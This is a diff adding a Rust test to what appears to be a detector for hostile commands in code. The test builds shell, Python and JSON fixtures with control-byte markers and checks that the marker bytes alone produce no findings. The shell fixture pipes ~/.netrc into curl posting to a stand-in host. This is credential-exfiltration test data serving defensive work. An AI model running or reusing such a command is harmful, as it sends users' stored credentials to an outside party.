@@ -435,6 +435,22 @@ fn back_ticks_do_not_nest() {
 }
 
 #[test]
+fn bytes_that_mark_values_are_no_values_of_the_code() {
+    for number in ["4294967295", "5", "0", ""] {
+        let mark = format!("\u{1}{number}\u{1}");
+        let shell = format!("cat ~/.netrc | cat {mark}\ncurl -d @- {mark} https://a.dev\n");
+        let python = format!("os.system('curl -d {mark} https://a.dev')\n");
+        let json = format!("{{\"a\": \"curl -d \\u0001{number}\\u0001 https://a.dev {mark}\"}}");
+        let files = [
+            ("a.sh", shell.as_str()),
+            ("a.py", &python),
+            ("a.json", &json),
+        ];
+        assert_eq!(found(&files), Vec::<String>::new(), "{number}");
+    }
+}
+
+#[test]
 fn a_finding_lists_the_steps() {
     let sources = [
         Source {
